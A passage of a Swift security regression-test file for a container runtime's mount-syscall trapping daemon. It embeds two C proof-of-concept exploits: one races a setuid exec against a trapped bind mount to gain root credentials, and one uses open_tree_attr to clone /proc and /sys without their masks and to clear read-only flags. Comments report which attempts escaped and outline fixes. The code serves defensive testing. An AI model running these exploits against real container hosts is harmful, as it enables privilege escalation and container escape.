                #expect(got.contains("pid1-rows-\(step)=2"), "pid 1's /proc stack changed after (\(step)): \(report)")
            }
            #expect(got.contains("pid1-proc-self"), "\(report)")
            // Refused by the rule's own conditions, not by something before them.
            let refusals = ecid.log().split(separator: "\n")
            #expect(refusals.contains { $0.contains("(at most 4)") }, "(a) \(ecid.log().suffix(1500))")
            #expect(refusals.filter { $0.contains("is in a peer group") }.count == 2, "(b), (c) \(ecid.log().suffix(1500))")
            #expect(exec.status == 0 && exec.stdout.contains("exec-rows=4\n") && exec.stdout.contains("exec-proc-self") && exec.stdout.contains("sleep 4883"), "runc exec's /proc: \(exec.stdout) \(exec.stderr)")
        }
        /// ecid opens `/proc/TID` for the caller's thread and checks NOTIF_ID_VALID; the helper
        /// reads the caller's credentials from that directory later (`Credentials(status:)`,
        /// after the container's lock and a message). A directory of /proc names a PID, not a
        /// task: when another thread of the caller's thread group execs, the kernel kills the
        /// caller and gives the exec'ing thread the leader's PID (de_thread), so a leader's
        /// /proc/PID then shows the new program's credentials. A uid 1000 program with
        /// CAP_SYS_ADMIN only in its bounding set (locked: it may gain it) has its leader bind
        /// /bin over /etc (trapped; the kernel would refuse it, EPERM) while a second thread execs
        /// a setuid-root program of the image: if the helper reads the status after the exec
        /// committed root's credentials, it performs the dead leader's bind as root with every
        /// capability, and /etc shows /bin (a bind of the attacker's files over /etc/passwd would
        /// make the next `su` a root shell). Must hold: no try wins. The neighbour: the same bind
        /// without a racing exec is refused EPERM.
        /// Against 2b3a73e: ESCAPED (won after 3814 tries, about 3 s: ecid's log shows the uid 1000
        /// leader's `mount(/bin, /etc, MS_BIND)` "performed", /etc shows /bin; the kernel's
        /// locks still hold the VM's side, but inside the container a user without capabilities
        /// gets any trapped mount as root, the class of
        /// `GrantAttacks.nonRootHasNoPowerOverTheMountNamespace`). Fix idea:
        /// pin the task, not the PID: read the status through a pidfd-verified open (compare
        /// the thread's start time or the exec count (`/proc/TID/stat` field 22, and self_exec_id
        /// is not visible) before and after), or have ecid read the credentials itself before
        /// its final NOTIF_ID_VALID and pass them to the helper, so a later exec cannot change
        /// what a checked notification's caller is.
        @Test func execByAnotherThreadDoesNotLendItsCredentials() throws {
            let sandbox = try RuntimeSandbox()
            defer { sandbox.cleanup() }
            let ecid = try Daemon(sandbox: sandbox)
            defer { ecid.kill() }
            let id = "r7-exec-race"
            let bundle = try sandbox.makeBundle(id, script: "/bin/r7race 4000 300000 > /out/report 2>&1; [ -e /etc/busybox ] && echo covered >> /out/report; echo done > /out/done") {
                GrantAttacks.nonRootWithAdminInBounding(&$0)
            }
            try GrantAttacks.compile(Self.raceSource, into: bundle, at: "/bin/r7race")
            try GrantAttacks.compile("int main(void) { return 0; }\n", into: bundle, at: "/bin/r7suid")
            #expect(chmod(bundle + "/rootfs/bin/r7suid", 0o4755) == 0)
            #expect(chmod(bundle + "/out", 0o777) == 0)
            let run = try sandbox.runtime(["run", "--bundle", bundle, id])
            A.delete(sandbox, id)
            #expect(run.status == 0, "\(run.stderr)")
            let report = (try? sandbox.output(bundle, "report")) ?? "(not run)"
            print("AttackRound7.execByAnotherThreadDoesNotLendItsCredentials: \(report)")
            #expect(report.contains("no win") && !report.contains("covered"), "a dead caller's bind was performed with its successor's root credentials: \(report) \(ecid.log().suffix(1200))")
            // How many racing tries the leader finishes (refused) depends on the machine's load:
            // under a full test run the exec often wins every time. The plain try is the neighbour.
            #expect(report.contains("plain=EPERM"), "uid 1000's bind without a race was not refused: \(report)")
        }

        static let raceSource = #"""
// A thread group's leader is stopped in a trapped bind over /etc while another thread execs a
// setuid-root program: the exec'ing thread takes over the leader's TID, so /proc/TID (which
// ecid opened for the leader's call) now shows root's credentials.
#define _GNU_SOURCE
#include <errno.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/mount.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>
static volatile long delay_loops;
static char *const suid_argv[] = { "/bin/r7suid", NULL };
static void *execer(void *arg) {
    (void)arg;
    for (volatile long i = 0; i < delay_loops; i++) {}
    execve(suid_argv[0], suid_argv, NULL);
    _exit(127);
}
int main(int argc, char **argv) {
    setvbuf(stdout, NULL, _IONBF, 0);
    long tries = argc > 1 ? atol(argv[1]) : 3000;
    long max_delay = argc > 2 ? atol(argv[2]) : 200000;
    int eperm = 0, other = 0;
    // The neighbour, with no exec racing it: the kernel (through ecid) refuses uid 1000's bind.
    int plain = mount("/bin", "/etc", NULL, MS_BIND, NULL);
    printf("plain=%s\n", plain == 0 ? "MOUNTED" : errno == EPERM ? "EPERM" : "other");
    if (plain == 0) return 0;
    time_t start = time(NULL);
    for (long n = 0; n < tries && time(NULL) - start < 40; n++) {
        if (access("/etc/busybox", F_OK) == 0) { printf("won after %ld tries (getuid %d)\n", n, getuid()); return 0; }
        pid_t pid = fork();
        if (pid == 0) {
            delay_loops = (n * 7919) % max_delay;
            pthread_t t;
            pthread_create(&t, NULL, execer, NULL);
            int rc = mount("/bin", "/etc", NULL, MS_BIND, NULL);
            _exit(rc == 0 ? 0 : (errno == EPERM ? 1 : 2));
        }
        int status = 0;
        waitpid(pid, &status, 0);
        if (WIFEXITED(status) && WEXITSTATUS(status) == 1) eperm++;
        else if (WIFEXITED(status) && WEXITSTATUS(status) == 2) other++;
    }
    if (access("/etc/busybox", F_OK) == 0) { printf("won at the end (getuid %d)\n", getuid()); return 0; }
    printf("no win: eperm=%d other=%d uid=%d\n", eperm, other, getuid());
    return 0;
}
"""#

        /// open_tree_attr(2) (Linux 6.15, x86_64 467): `open_tree` with `mount_setattr`'s
        /// attributes applied to the clone, and with no attributes exactly `open_tree`.
        /// SeccompTraps' new-mount-API list (`newMountAPI`: open_tree, move_mount, mount_setattr,
        /// fsopen, fsconfig, fsmount, fspick, all ENOSYS) does not name it, and libseccomp 2.5.4
        /// and runc 1.1 do not know it, so under a profile whose default allows (`--privileged`,
        /// `seccomp=unconfined`: no engine filter, only ECI's traps) it runs untrapped. In a
        /// locked container the kernel refuses what matters (a clone without the locked masks,
        /// EINVAL; clearing a locked read-only flag, EPERM). In an unlocked container holding
        /// CAP_SYS_ADMIN ecid's traps are the only guard, and open_tree_attr walks around them:
        /// `runc exec --cap CAP_SYS_ADMIN` into a container started without it (`docker exec
        /// --privileged`'s shape, docs/ecid.md "Not covered": "ecid's traps vet them") clones
        /// /proc without its masks (its `keys` a regular file: the real /proc/keys) and /sys
        /// without /sys/firmware's mask, and clones the read-only /proc/sys with
        /// MOUNT_ATTR_RDONLY cleared and opens a sysctl for writing, where ecid refuses
        /// `umount /proc/keys` and `mount -o remount,bind,rw /proc/sys`. (An LSM-confined
        /// container with CAP_SYS_ADMIN, also left unlocked, is no better: no LSM hook sees
        /// open_tree or mount_setattr.) Must hold: ENOSYS or EPERM, no unmasked or writable
        /// clone. The neighbours: ecid's refusals of the same through mount(2)/umount2(2), and
        /// the same probe in a locked container. Against 2b3a73e (host kernel 6.18; the VM's 6.12
        /// lacks the call, so the image is not affected until its kernel moves): ESCAPED in the
        /// unlocked container (`clone-keys=regular`, `clone-firmware-entries=2`: acpi and memmap,
        /// `rw-clone /proc/sys=0`: a writable clone of a read-only path, whose sysctls' own modes
        /// still refused the one opened here, EACCES), BLOCKED in the locked one
        /// (EINVAL for the maskless clones, EPERM for clearing the locked read-only flag). Fix idea: ENOSYS by number for every mount-API call the kernel may have, not by
        /// libseccomp's name table (open_tree_attr 467 on every architecture, and a rule for the
        /// numbers above the last one known, since runc drops names libseccomp lacks), or trap it
        /// like mount. Fixed (session 9) by ECI's syscall floor (`SyscallFloorPolicy`): a
        /// filter by number that eci-runc puts under runc, so every container process inherits
        /// it; open_tree_attr and every number above the last one reviewed fail with ENOSYS.
        @Test func openTreeAttrIsNoUntrappedOpenTree() throws {
            let sandbox = try RuntimeSandbox()
            defer { sandbox.cleanup() }
            try FileManager.default.createDirectory(atPath: sandbox.directory + "/shared", withIntermediateDirectories: true)
            let ecid = try Daemon(sandbox: sandbox)
            defer { ecid.kill() }
            for locked in [false, true] {
                let id = locked ? "r7-ota-locked" : "r7-ota-unlocked"
                let marker = locked ? 4881 : 4882
                let bundle = try sandbox.makeBundle(id, script: "exec sleep \(marker)") {
                    Integration.Ecid.privilegedWithReadOnlyBind(sandbox, &$0, locked: locked)
                }
                try GrantAttacks.compile(Self.openTreeAttrSource, into: bundle, at: "/bin/ota")
                let started = try sandbox.runtimeDetached(["run", "-d", "--bundle", bundle, id])
                defer { A.delete(sandbox, id) }
                #expect(started.status == 0, "\(started.stderr)")
                let pid = try #require(try A.pid(of: "sleep \(marker)"))
                #expect(A.isLocked(pid) == locked)
                let script = """
                    grep CapEff /proc/self/status
                    umount /proc/keys 2>/dev/null; echo umount-keys=$?
                    mount -o remount,bind,rw /proc/sys 2>/dev/null; echo remount-sys=$?
                    [ -c /proc/keys ] && echo keys-masked
                    /bin/ota unmask
                    /bin/ota rw /proc/sys net/ipv4/ip_forward
                    /bin/ota rw /ro written
                    """
                let exec = try sandbox.runtime(["exec", "--cap", "CAP_SYS_ADMIN", id, "sh", "-c", script])
                let kind = locked ? "locked" : "unlocked"
                print("AttackRound7.openTreeAttrIsNoUntrappedOpenTree (\(kind)): \(exec.stdout) \(exec.stderr)")
                let got = Self.lines(exec.stdout)
                #expect(got.contains { $0.hasPrefix("umount-keys=") && $0 != "umount-keys=0" }, "\(kind): \(exec.stdout)")
                #expect(got.contains { $0.hasPrefix("remount-sys=") && $0 != "remount-sys=0" } && got.contains("keys-masked"), "\(kind): the neighbours: \(exec.stdout)")
                #expect(got.contains { $0.hasPrefix("proc-clone=") }, "the probe did not run: \(exec.stdout) \(exec.stderr)")
                func clonesRevealNothing() {
                    #expect(!got.contains("clone-keys=regular"), "\(kind): open_tree_attr cloned /proc without its masks: the real /proc/keys: \(exec.stdout)")
                    #expect(!got.contains { $0.hasPrefix("clone-firmware-entries=") && $0 != "clone-firmware-entries=0" }, "\(kind): open_tree_attr cloned /sys without /sys/firmware's mask: \(exec.stdout)")
                    #expect(!got.contains("rw-clone /proc/sys=0") && !got.contains("rw-write /proc/sys=0"), "\(kind): open_tree_attr made a writable clone of the read-only /proc/sys: \(exec.stdout)")
                    #expect(!got.contains("rw-write /ro=0") && !FileManager.default.fileExists(atPath: sandbox.directory + "/shared/written"), "\(kind): a writable clone of the read-only volume: \(exec.stdout)")
                }
                clonesRevealNothing()
                // ECI's syscall floor (`SyscallFloorPolicy`): the call runc cannot be asked to
                // trap by name fails as on a kernel without it, locked or not.
                #expect(got.contains("proc-clone=38") && got.contains("sys-clone=38") && got.contains("rw-clone /ro=38"), "\(kind): open_tree_attr was not refused with ENOSYS: \(exec.stdout)")
            }
        }

        static let openTreeAttrSource = #"""
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>
#ifndef __NR_open_tree_attr
#define __NR_open_tree_attr 467
#endif
struct attr { uint64_t set, clr, prop, userns; };
// open_tree_attr(2): with attr NULL it is open_tree(2).
static int ota(const char *path, unsigned flags, struct attr *a) {
    return (int)syscall(__NR_open_tree_attr, AT_FDCWD, path, flags | O_CLOEXEC, a, a ? sizeof *a : 0);
}
int main(int argc, char **argv) {
    setvbuf(stdout, NULL, _IONBF, 0);
    if (argc >= 4 && !strcmp(argv[1], "rw")) {  // rw PATH FILE: a clone of PATH with read-only cleared
        struct attr a = { 0, 1 /* MOUNT_ATTR_RDONLY */, 0, 0 };
        int fd = ota(argv[2], 1 /* OPEN_TREE_CLONE */ | 0x8000 /* AT_RECURSIVE */, &a);
        printf("rw-clone %s=%d\n", argv[2], fd < 0 ? errno : 0);
        if (fd < 0) return 0;
        int w = openat(fd, argv[3], O_CREAT | O_WRONLY, 0644);
        printf("rw-write %s=%d\n", argv[2], w < 0 ? errno : 0);
        return 0;
    }
    if (argc >= 2 && !strcmp(argv[1], "unmask")) {  // a non-recursive clone (no masks) of /proc and /sys
        int fd = ota("/proc", 1, NULL);
        printf("proc-clone=%d\n", fd < 0 ? errno : 0);
        struct stat st;
        if (fd >= 0 && fstatat(fd, "keys", &st, AT_SYMLINK_NOFOLLOW) == 0) printf("clone-keys=%s\n", S_ISREG(st.st_mode) ? "regular" : S_ISCHR(st.st_mode) ? "device" : "other");
        fd = ota("/sys", 1, NULL);
        printf("sys-clone=%d\n", fd < 0 ? errno : 0);
        int dfd = fd >= 0 ? openat(fd, "firmware", O_RDONLY | O_DIRECTORY) : -1;
        DIR *d = dfd >= 0 ? fdopendir(dfd) : NULL;
        int n = 0;
        for (struct dirent *e; d && (e = readdir(d));) if (e->d_name[0] != '.') n++;
        if (d) printf("clone-firmware-entries=%d\n", n);
        return 0;
    }
    return 2;
}
"""#
    }
}
